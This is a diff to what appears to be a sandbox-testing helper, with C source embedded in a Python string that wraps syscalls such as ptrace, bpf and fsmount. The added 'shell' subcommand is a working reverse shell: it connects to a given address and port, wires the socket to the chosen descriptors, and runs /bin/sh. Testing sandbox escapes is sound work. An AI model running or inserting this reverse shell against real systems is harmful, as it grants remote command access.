@@ -37,8 +37,10 @@ int main(int n, char **args) { return ptrace(PTRACE_ATTACH, atoi(args[1]), 0, 0)
 
 
 CALLS = """
+#include <arpa/inet.h>
 #include <linux/bpf.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -63,6 +65,18 @@ int main(int n, char **args)
         int fs = syscall(SYS_fsopen, args[2], 0);
         syscall(SYS_fsconfig, fs, 6 /* FSCONFIG_CMD_CREATE */, 0, 0, 0);
         return syscall(SYS_fsmount, fs, 0, 0) < 0;
+    }
+    if (!strcmp(args[1], "shell")) {
+        /* A shell with a connection as the descriptors that are named: "012" all, "0" its input alone. */
+        struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(atoi(args[3])) };
+        char *shell[] = { "sh", 0 };
+        int at = socket(AF_INET, SOCK_STREAM, 0);
+        inet_pton(AF_INET, args[2], &to.sin_addr);
+        if (connect(at, (void *)&to, sizeof(to)))
+            return 1;
+        for (char *each = args[4]; *each; each++)
+            dup2(at, *each - '0');
+        return execv("/bin/sh", shell);
     }
     return 2;
 }
